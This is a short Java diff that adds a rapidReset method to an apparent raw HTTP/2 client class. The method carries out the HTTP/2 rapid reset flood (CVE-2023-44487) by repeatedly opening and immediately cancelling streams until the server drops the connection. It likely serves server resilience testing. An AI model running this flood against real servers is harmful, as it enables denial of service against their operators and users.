@@ -80,6 +80,25 @@ public final class RawH2 implements AutoCloseable {
     frame(RST_STREAM, 0, stream, ByteBuffer.allocate(4).putInt((int) code).array());
   }
 
+  /**
+   * HTTP/2 rapid reset (CVE-2023-44487): {@code count} streams from {@code stream} on (odd ids), each opened with
+   * {@code block} and cancelled at once, flushed every 50. A connection the server closes meanwhile ends the flood.
+   */
+  public void rapidReset(int stream, byte[] block, int count) {
+    try {
+      for (int i = 0; i < count; i++, stream += 2) {
+        headers(stream, block, true);
+        reset(stream, CANCEL);
+        if (i % 50 == 0) {
+          flush();
+        }
+      }
+      flush();
+    } catch (IOException e) {
+      // closed under us: what the flood is for
+    }
+  }
+
   private void read() {
     try (DataInputStream in = new DataInputStream(socket.getInputStream())) {
       while (true) {
